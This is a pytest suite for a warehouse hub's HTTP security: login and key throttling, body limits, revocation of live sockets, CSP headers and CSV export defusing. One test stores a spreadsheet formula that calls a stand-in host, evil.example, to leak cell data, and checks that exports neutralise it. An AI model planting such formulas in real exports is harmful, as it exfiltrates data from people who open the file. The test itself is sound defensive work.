"""The HTTP front door, through the real app and database: logins and keys throttled,
bodies bounded, the live socket re-checked, text checked, CSV cells defused, /metrics
behind credentials, security headers, the bootstrap key retired.

Most tests go through httpx's ASGI transport (a client address of one's choosing); the
live websocket and the browser test go through a real uvicorn socket in this process.
"""

from __future__ import annotations

import asyncio
import base64
import contextlib
import csv
import hashlib
import io
import json
import os
import re
import shutil
import statistics
import subprocess
import time
import uuid
from collections.abc import AsyncIterator
from decimal import Decimal
from pathlib import Path
from typing import Any

import httpx
import psycopg
import pytest
import uvicorn
from websockets.asyncio.client import ClientConnection, connect
from websockets.exceptions import ConnectionClosed

from tests.hub.stock_setup import make_site, post, receipt
from tests.support.api import Api, running_api
from tests.support.services import free_port
from warelink.hub import roles_doc
from warelink.hub.access import Role
from warelink.hub.api.state import Hub
from warelink.hub.app import create_app
from warelink.hub.settings import HubSettings
from warelink.hub.stock import ledger

PASSWORD = "correct horse battery"


@contextlib.asynccontextmanager
async def door(settings: HubSettings, **changes: Any) -> AsyncIterator[Api]:
    """The API in process with some settings changed (window, limits…)."""
    async with running_api(settings.model_copy(update=changes)) as running:
        yield running


def client_at(api: Api, address: str, key: str | None = None) -> httpx.AsyncClient:
    """A client that connects from ``address`` (what failures are counted by)."""
    transport = httpx.ASGITransport(app=api.transport.app, client=(address, 40000))
    headers = {"X-API-Key": key} if key else None
    return httpx.AsyncClient(transport=transport, base_url="http://hub", headers=headers)


async def add_user(admin: httpx.AsyncClient, name: str) -> None:
    body = {"id": name, "roles": ["clerk"], "password": PASSWORD}
    response = await admin.post("/api/v1/identities/users", json=body)
    assert response.status_code == 201, response.text


async def login(client: httpx.AsyncClient, name: str, password: str) -> httpx.Response:
    return await client.post("/api/v1/auth/token", data={"username": name, "password": password})


async def audit(api: Api, action: str) -> list[tuple[str, str, dict[str, Any]]]:
    async with api.hub.pool.connection() as conn:
        cur = await conn.execute(
            "SELECT actor, subject, detail FROM audit_log WHERE action = %s ORDER BY id", (action,)
        )
        return await cur.fetchall()


# ------------------------------------------------------------------ 1. logins


async def test_failed_logins_lock_the_account_until_the_window_has_passed(
    hub_settings: HubSettings,
) -> None:
    async with door(hub_settings, auth_window_s=4.0) as api:
        admin = await api.client("alice")
        await add_user(admin, "bob")
        await add_user(admin, "carol")
        async with client_at(api, "10.0.0.1") as guesser:
            for attempt in range(5):
                refused = await login(guesser, "bob", f"guess number {attempt}")
                assert refused.status_code == 401, refused.text
            locked = await login(guesser, "bob", PASSWORD)  # the right one: not even checked
            assert locked.status_code == 429, locked.text
            wait = int(locked.headers["retry-after"])
            assert 1 <= wait <= 4 and "try again in" in locked.json()["detail"]
            assert (await login(guesser, "carol", PASSWORD)).status_code == 200  # other account

            failed = await audit(api, "auth.login.failed")
            assert [actor for actor, _, _ in failed] == ["bob"] * 5
            assert all(d["address"] == "10.0.0.1" for _, _, d in failed)
            assert [d["locked"] for _, _, d in failed] == [False] * 4 + [True]
            assert all("guess number" not in json.dumps(d) for _, _, d in failed)

            await asyncio.sleep(wait)
            assert (await login(guesser, "bob", PASSWORD)).status_code == 200


async def test_failed_logins_from_one_address_lock_that_address_only(
    hub_settings: HubSettings,
) -> None:
    async with door(hub_settings, auth_window_s=120.0) as api:
        admin = await api.client("alice")
        await add_user(admin, "carol")
        async with client_at(api, "10.0.0.7") as guesser, client_at(api, "10.0.0.8") as other:
            for n in range(20):  # 20 accounts, one failure each: no account is locked
                assert (await login(guesser, f"user{n}", PASSWORD)).status_code == 401
            locked = await login(guesser, "carol", PASSWORD)
            assert locked.status_code == 429 and 1 <= int(locked.headers["retry-after"]) <= 120
            assert (await login(other, "carol", PASSWORD)).status_code == 200
        assert len(await audit(api, "auth.login.failed")) == 20  # the 429 checked nothing


def test_every_operation_that_may_answer_401_documents_429_with_retry_after() -> None:
    paths = create_app(HubSettings()).openapi()["paths"]
    token = paths["/api/v1/auth/token"]["post"]["responses"]["429"]
    assert "Retry-After" in token["headers"]
    assert "429" in paths["/metrics"]["get"]["responses"]
    assert "429" not in paths["/healthz"]["get"]["responses"]


async def test_an_unknown_user_costs_as_much_as_a_known_one(api: Api) -> None:
    admin = await api.client("alice")
    await add_user(admin, "bob")
    times: dict[str, list[float]] = {"bob": [], "nobody": []}
    async with client_at(api, "10.0.0.2") as client:
        for _ in range(3):
            for name in times:
                before = api.hub.authenticator.verifications
                started = time.perf_counter()
                response = await login(client, name, "not the password")
                times[name].append(time.perf_counter() - started)
                assert response.status_code == 401
                assert response.json()["detail"] == "wrong user name or password"
                assert api.hub.authenticator.verifications == before + 1  # one argon2 each
    known, unknown = statistics.median(times["bob"]), statistics.median(times["nobody"])
    print(f"failed login: known user {known * 1000:.0f} ms, unknown {unknown * 1000:.0f} ms")
    assert 0.5 < unknown / known < 2


# ------------------------------------------------------------------ 2. API keys


async def test_key_guesses_are_cheap_to_refuse_and_throttled_per_address(
    hub_settings: HubSettings,
) -> None:
    async with door(hub_settings, auth_window_s=120.0) as api:
        async with api.hub.pool.connection() as conn:
            await conn.execute("INSERT INTO sites (id) VALUES ('north')")
        key = await api.key("gw-north", [Role.GATEWAY], ["north"])
        key_id = key.split("_")[1]
        counter = api.hub.authenticator
        async with client_at(api, "10.0.0.3") as guesser:

            async def me(presented: str) -> httpx.Response:
                return await guesser.get("/api/v1/auth/me", headers={"X-API-Key": presented})

            assert (await me(key)).status_code == 200  # used once from there: remembered
            before = counter.verifications
            for presented in ("nonsense", "wlk_x", f"wlk_{key_id}_", "wlk_nosuchid_secret"):
                assert (await me(presented)).status_code == 401, presented
            assert (await me(key)).status_code == 200
            assert counter.verifications == before  # malformed, unknown id, known key: no argon2
            for n in range(19):  # the unknown id above was the first failure
                response = await me(f"wlk_{key_id}_guess{n}")
                assert response.status_code == 401 and "wrong" in response.json()["detail"]
            assert counter.verifications == before + 19
            for presented in (f"wlk_{key_id}_guess99", "wlk_nosuchid_secret"):
                throttled = await me(presented)
                assert throttled.status_code == 429, throttled.text
                assert 1 <= int(throttled.headers["retry-after"]) <= 120
            assert counter.verifications == before + 19  # throttled: argon2 not reached
            assert (await me(key)).status_code == 200  # the address's own good key still works
        async with client_at(api, "10.0.0.4") as other:
            wrong = await other.get("/api/v1/auth/me", headers={"X-API-Key": f"wlk_{key_id}_x"})
            assert wrong.status_code == 401


async def test_revoking_a_key_on_one_hub_refuses_it_at_once_on_another(
    hub_settings: HubSettings,
) -> None:
    async with door(hub_settings) as one, door(hub_settings) as two:
        admin = await one.client("alice")
        body = {"id": "erp", "roles": ["coordinator"]}
        assert (await admin.post("/api/v1/identities/services", json=body)).status_code == 201
        created = (await admin.post("/api/v1/identities/erp/keys", json={})).json()
        on_two = two.anonymous(headers={"X-API-Key": created["key"]})
        assert (await on_two.get("/api/v1/auth/me")).status_code == 200
        assert (await admin.delete(f"/api/v1/identities/erp/keys/{created['id']}")).is_success
        refused = await on_two.get("/api/v1/auth/me")
        assert refused.status_code == 401 and "revoked" in refused.json()["detail"]


# ------------------------------------------------------------------ 3. body size


async def test_a_body_over_the_limit_is_refused_before_credentials_or_parsing(api: Api) -> None:
    anonymous = api.anonymous()
    limit = api.hub.settings.max_body_bytes
    big = b'{"code": "' + b"x" * limit + b'"}'
    declared = await anonymous.post(
        "/api/v1/skus", content=big, headers={"content-type": "application/json"}
    )
    assert declared.status_code == 413  # not 401: nothing was read

    pulled = 0

    async def chunked() -> AsyncIterator[bytes]:  # no Content-Length: counted as it comes
        nonlocal pulled
        for _ in range(200):
            pulled += 1
            yield b" " * 2**20

    streamed = await anonymous.post(
        "/api/v1/skus", content=chunked(), headers={"content-type": "application/json"}
    )
    assert streamed.status_code == 413
    assert pulled <= limit // 2**20 + 2, f"read {pulled} MiB of a 200 MiB body"

    admin = await api.client("alice")
    small = await admin.post("/api/v1/sites", json={"id": "north"})
    assert small.status_code == 201
    csv_headers = {"content-type": "text/csv"}
    padded = "code,name\n" + "S1," + "x" * (limit + 2**20) + "\n"  # over the JSON limit
    imported = await admin.post("/api/v1/masterdata/skus/import", content=padded,
                                headers=csv_headers)  # fmt: skip
    assert imported.status_code == 422, imported.text[:300]  # read and checked: not 413
    assert "field larger than field limit" in imported.text  # the CSV reader's own limit
    huge = "code,name\n" + "x" * 21 * 2**20
    too_big = await admin.post("/api/v1/masterdata/skus/import", content=huge,
                               headers=csv_headers)  # fmt: skip
    assert too_big.status_code == 413


# ------------------------------------------------------------------ 4. the live websocket


@contextlib.asynccontextmanager
async def served(settings: HubSettings) -> AsyncIterator[tuple[str, Hub]]:
    """The app behind a real uvicorn socket (port 0) in this process, lifespan and all."""
    app = create_app(settings)
    config = uvicorn.Config(app, host="127.0.0.1", port=0, log_level="warning")
    server = uvicorn.Server(config)
    task = asyncio.create_task(server.serve(), name="uvicorn")
    try:
        async with asyncio.timeout(30):
            while not server.started:
                if task.done():
                    await task
                    raise RuntimeError("uvicorn stopped before it started")
                await asyncio.sleep(0.02)
        port = server.servers[0].sockets[0].getsockname()[1]
        yield f"http://127.0.0.1:{port}", app.state.hub
    finally:
        server.should_exit = True
        await task


async def closed(ws: ClientConnection, within: float) -> tuple[int | None, str | None]:
    """Read until the server closes; its close code and reason."""
    async with asyncio.timeout(within):
        with contextlib.suppress(ConnectionClosed):
            while True:
                await ws.recv()
    return ws.close_code, ws.close_reason


async def test_an_open_live_socket_closes_when_its_credential_or_access_goes(
    hub_settings: HubSettings,
) -> None:
    boot = f"wlk_boot{uuid.uuid4().hex[:8]}_{uuid.uuid4().hex}"
    settings = hub_settings.model_copy(update={"live_recheck_s": 0.3, "bootstrap_api_key": boot})
    async with served(settings) as (url, _), httpx.AsyncClient(
        base_url=url, headers={"X-API-Key": boot}
    ) as admin:  # fmt: skip
        for site in ("north", "south"):
            assert (await admin.post("/api/v1/sites", json={"id": site})).status_code == 201
        body = {"id": "screen", "roles": ["clerk"], "sites": ["north"]}
        assert (await admin.post("/api/v1/identities/services", json=body)).status_code == 201

        async def watch(key: str) -> ClientConnection:
            ws = await connect(
                url.replace("http", "ws") + f"/api/v1/live?site=north&access_token={key}"
            )
            assert json.loads(await ws.recv())["kind"] == "snapshot"
            return ws

        async def new_key() -> dict[str, Any]:
            response = await admin.post("/api/v1/identities/screen/keys", json={})
            assert response.status_code == 201
            return dict(response.json())

        first = await new_key()
        ws = await watch(first["key"])
        await asyncio.sleep(0.5)  # a check passed: still open
        assert ws.close_code is None
        started = time.perf_counter()
        assert (await admin.delete(f"/api/v1/identities/screen/keys/{first['id']}")).is_success
        code, reason = await closed(ws, within=3)
        assert (code, reason) == (4401, "credential revoked")
        print(f"live socket closed {time.perf_counter() - started:.2f} s after the revoke")

        second = await new_key()
        ws = await watch(second["key"])
        await admin.patch("/api/v1/identities/screen", json={"active": False})
        assert await closed(ws, within=3) == (4401, "credential identity disabled")

        await admin.patch("/api/v1/identities/screen", json={"active": True})
        ws = await watch(second["key"])
        await admin.patch("/api/v1/identities/screen", json={"sites": ["south"]})
        assert await closed(ws, within=3) == (4403, "no access to site 'north'")


# ------------------------------------------------------------------ 5. text


def path_of(template: str) -> str:
    return re.sub(r"\{(\w+)(?::\w+)?\}", lambda m: "north" if m[1] == "site" else "1", template)


async def test_a_lone_surrogate_is_refused_with_422_on_every_write_route(api: Api) -> None:
    admin = await api.client("alice")
    assert (await admin.post("/api/v1/sites", json={"id": "north"})).status_code == 201
    json_headers = {"content-type": "application/json"}
    raw = b'{"name": "\\udcff"}'
    writes = [e for e in roles_doc.endpoints(create_app(HubSettings()))
              if e.method in ("POST", "PUT", "PATCH")]  # fmt: skip
    assert len(writes) > 40
    wrong = []
    for endpoint in writes:
        response = await admin.request(
            endpoint.method, path_of(endpoint.path), content=raw, headers=json_headers
        )
        first = response.json()["detail"][0] if response.status_code == 422 else {}
        if first.get("type") != "string_unicode" or first.get("loc") != ["body", "name"]:
            wrong.append(f"{endpoint.method} {endpoint.path}: {response.status_code}")
    assert not wrong, "\n".join(wrong)

    nested = b'{"code": "S1", "lines": [{"lot": "ok"}, {"lot": "\\ud800x"}]}'
    response = await admin.post("/api/v1/skus", content=nested, headers=json_headers)
    assert response.status_code == 422
    assert response.json()["detail"] == [{
        "type": "string_unicode", "loc": ["body", "lines", 1, "lot"],
        "msg": "a lone surrogate (U+D800) is not text: send valid Unicode",
    }]  # fmt: skip
    pair = b'{"code": "SMILE", "name": "\\ud83d\\ude00 and \\\\udcff as text"}'
    created = await admin.post("/api/v1/skus", content=pair, headers=json_headers)
    assert created.status_code == 201, created.text
    assert created.json()["name"] == "😀 and \\udcff as text"


# ------------------------------------------------------------------ 6. CSV


def rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


async def test_csv_exports_defuse_formulas_and_keep_numbers(api: Api) -> None:
    admin = await api.client("alice")
    await make_site(api, "north")
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    sku = {"code": "EVIL", "name": formula}
    assert (await admin.post("/api/v1/skus", json=sku)).status_code == 201
    await post(api, receipt("north", 5, sku="EVIL", lot="@SUM(1+1)"))
    await post(api, receipt("north", 2, sku="S1", lot="-7"))

    movements = (await admin.get("/api/v1/sites/north/movements.csv")).text
    assert f'"\'{formula.replace(chr(34), chr(34) * 2)}"' in movements  # quoted, defused
    evil = next(r for r in rows(movements) if r["sku"] == "EVIL")
    assert (evil["sku_name"], evil["lot"]) == ("'" + formula, "'@SUM(1+1)")
    assert next(r for r in rows(movements) if r["sku"] == "S1")["lot"] == "-7"  # a number

    balances = rows((await admin.get("/api/v1/sites/north/balances.csv")).text)
    supplier = next(r for r in balances if r["location"] == "SUPPLIER" and r["sku"] == "EVIL")
    assert Decimal(supplier["quantity"]) == -5 and supplier["lot"] == "'@SUM(1+1)"
    assert all(not r["quantity"].startswith("'") for r in balances)

    exported = (await admin.get("/api/v1/masterdata/skus.csv")).text
    assert next(r for r in rows(exported) if r["code"] == "EVIL")["name"] == "'" + formula
    again = await admin.post(
        "/api/v1/masterdata/skus/import", content=exported, headers={"content-type": "text/csv"}
    )
    assert again.status_code == 200 and again.json()["updated"] == 0, again.text
    stored = (await admin.get("/api/v1/skus/EVIL")).json()
    assert stored["name"] == formula  # the apostrophe is the export's, not the data's


# ------------------------------------------------------------------ 7. /metrics


async def test_metrics_need_gateways_read_and_show_the_callers_sites_only(api: Api) -> None:
    async with api.hub.pool.connection() as conn:
        await conn.execute("INSERT INTO sites (id) VALUES ('north'), ('south')")
        await conn.execute(
            "INSERT INTO gateways (id, site, acked_seq) VALUES ('gw-n', 'north', 41),"
            " ('gw-s', 'south', 42)"
        )
    assert (await api.anonymous().get("/metrics")).status_code == 401
    clerk = await api.client("clerk", Role.CLERK)
    assert (await clerk.get("/metrics")).status_code == 403
    north = await api.client("ana", Role.ANALYST, sites=["north"])
    scraped = await north.get("/metrics")
    assert scraped.status_code == 200
    assert 'warelink_gateway_acked_seq{gateway="gw-n",site="north"} 41.0' in scraped.text
    assert "gw-s" not in scraped.text and "south" not in scraped.text
    assert "warelink_hub_messages_total" in scraped.text
    admin = await api.client("alice")
    assert "gw-s" in (await admin.get("/metrics")).text


# ------------------------------------------------------------------ 8. headers


def sha256(text: str) -> str:
    return "'sha256-" + base64.b64encode(hashlib.sha256(text.encode()).digest()).decode() + "'"


async def test_security_headers_on_the_page_and_the_api(api: Api) -> None:
    page = await api.anonymous().get("/")
    assert page.status_code == 200
    policy = dict(
        part.strip().split(" ", 1) for part in page.headers["content-security-policy"].split(";")
    )
    script = re.search(r"<script>(.*?)</script>", page.text, re.DOTALL)
    assert script is not None and policy["script-src"] == sha256(script[1])
    assert policy["default-src"] == "'none'" and policy["connect-src"] == "'self'"
    assert policy["frame-ancestors"] == "'none'" and "'unsafe-inline'" not in str(policy)
    for response in (page, await api.anonymous().get("/healthz")):
        assert response.headers["x-content-type-options"] == "nosniff"
        assert response.headers["x-frame-options"] == "DENY"
        assert response.headers["referrer-policy"] == "no-referrer"
        assert "cache-control" not in response.headers

    admin = await api.client("alice")
    answer = await admin.get("/api/v1/sites")
    assert answer.headers["cache-control"] == "no-store"
    assert answer.headers["content-security-policy"] == "default-src 'none'; frame-ancestors 'none'"
    assert (await admin.get("/api/v1/nothing-here")).headers["cache-control"] == "no-store"


CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")


@pytest.mark.skipif(CHROMIUM is None, reason="no chromium (apt-get install chromium)")
async def test_the_dashboard_renders_live_stock_under_its_csp(
    hub_settings: HubSettings, tmp_path: Path
) -> None:
    """Headless Chromium over the DevTools protocol: no CSP violation, the live state shown."""
    boot = f"wlk_boot{uuid.uuid4().hex[:8]}_{uuid.uuid4().hex}"
    settings = hub_settings.model_copy(update={"bootstrap_api_key": boot})
    async with served(settings) as (url, hub), httpx.AsyncClient(
        base_url=url, headers={"X-API-Key": boot}
    ) as admin:  # fmt: skip
        assert (await admin.post("/api/v1/sites", json={"id": "north"})).status_code == 201
        assert (await admin.post("/api/v1/skus", json={"code": "PALLET-9"})).status_code == 201
        async with hub.pool.connection() as conn:
            await conn.execute("INSERT INTO locations (site, code, kind) VALUES"
                               " ('north', 'A1', 'internal')")  # fmt: skip
        async with hub.pool.connection() as conn, conn.transaction():
            await ledger.post([receipt("north", 7, sku="PALLET-9")], conn=conn)
        async with chromium(tmp_path) as browser:
            state = await browser.render(f"{url}/?site=north#key={boot}", until="live")
    assert state["violations"] == []
    assert state["state"] == "live"
    assert ["A1", "PALLET-9", "—", "7"] in state["stock"]


class DevTools:
    """Just enough of the Chrome DevTools protocol to load a page and read it."""

    def __init__(self, ws: ClientConnection) -> None:
        self.ws, self.next_id = ws, 0

    async def call(self, method: str, session: str | None = None, **params: Any) -> Any:
        """The result of a command (or its error, as ``{"error": …}``)."""
        self.next_id += 1
        message: dict[str, Any] = {"id": self.next_id, "method": method, "params": params}
        if session:
            message["sessionId"] = session
        await self.ws.send(json.dumps(message))
        while True:
            answer = json.loads(await self.ws.recv())
            if answer.get("id") == self.next_id:
                return answer.get("result", answer)

    async def render(self, address: str, *, until: str) -> dict[str, Any]:
        target = (await self.call("Target.createTarget", url="about:blank"))["targetId"]
        session = (await self.call("Target.attachToTarget", targetId=target, flatten=True))[
            "sessionId"
        ]
        watch = (
            "window.__violations = [];"
            "document.addEventListener('securitypolicyviolation',"
            " e => window.__violations.push(e.violatedDirective + ' ' + e.blockedURI));"
        )
        await self.call("Page.enable", session)  # without it the watch does not run
        await self.call("Page.addScriptToEvaluateOnNewDocument", session, source=watch)
        await self.call("Page.navigate", session, url=address)
        read = (
            "JSON.stringify({state: document.getElementById('state')?.textContent,"
            " violations: window.__violations ?? null,"
            " stock: [...document.querySelectorAll('#stock tr')]"
            ".map(tr => [...tr.children].map(td => td.textContent))})"
        )
        async with asyncio.timeout(20):
            while True:  # (the page may be between documents: no answer then)
                result = await self.call("Runtime.evaluate", session, expression=read)
                value = result.get("result", {}).get("value")
                state: dict[str, Any] = json.loads(value) if value else {}
                if state.get("state") == until and state["stock"]:
                    return state
                await asyncio.sleep(0.1)


@contextlib.asynccontextmanager
async def chromium(profile: Path) -> AsyncIterator[DevTools]:
    assert CHROMIUM is not None
    port = free_port()
    process = await asyncio.create_subprocess_exec(
        CHROMIUM, "--headless=new", "--no-sandbox", "--disable-gpu", "--no-first-run",
        f"--user-data-dir={profile}", f"--remote-debugging-port={port}", "about:blank",
        stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
        env=os.environ | {"HOME": str(profile)},
    )  # fmt: skip
    try:
        async with asyncio.timeout(30), httpx.AsyncClient() as http:
            while True:
                assert process.returncode is None, "chromium exited"
                with contextlib.suppress(httpx.TransportError):
                    version = await http.get(f"http://127.0.0.1:{port}/json/version")
                    break
                await asyncio.sleep(0.1)
        async with connect(version.json()["webSocketDebuggerUrl"], max_size=None) as ws:
            yield DevTools(ws)
    finally:
        process.kill()
        await process.wait()


# ------------------------------------------------------------------ 9. the bootstrap key


async def test_the_bootstrap_key_is_revoked_when_its_variable_is_gone_or_changed(
    hub_settings: HubSettings,
) -> None:
    first = f"wlk_boota{uuid.uuid4().hex[:6]}_{uuid.uuid4().hex}"
    second = f"wlk_bootb{uuid.uuid4().hex[:6]}_{uuid.uuid4().hex}"

    async def me(settings_key: str | None, presented: str) -> httpx.Response:
        async with door(hub_settings, bootstrap_api_key=settings_key) as api:
            return await api.anonymous(headers={"X-API-Key": presented}).get("/api/v1/auth/me")

    assert (await me(first, first)).status_code == 200
    assert (await me(first, first)).status_code == 200  # a restart with it: still works
    gone = await me(None, first)
    assert gone.status_code == 401 and gone.json()["detail"] == "credential revoked"
    assert (await me(first, first)).status_code == 401  # once revoked, never revived
    assert (await me(second, second)).status_code == 200
    assert (await me(first.replace("boota", "bootc"), second)).status_code == 401  # replaced
    async with await psycopg.AsyncConnection.connect(hub_settings.db_url) as conn:
        cur = await conn.execute(
            "SELECT actor, subject, detail FROM audit_log WHERE action = 'key.revoke' ORDER BY id"
        )
        revoked = await cur.fetchall()
    assert [(actor, subject) for actor, subject, _ in revoked] == [
        ("hub", f"bootstrap-admin/{first.split('_')[1]}"),
        ("hub", f"bootstrap-admin/{second.split('_')[1]}"),
    ]
    assert revoked[0][2] == {"reason": "WARELINK_BOOTSTRAP_API_KEY unset"}
    assert revoked[1][2] == {"reason": "another bootstrap key is configured"}
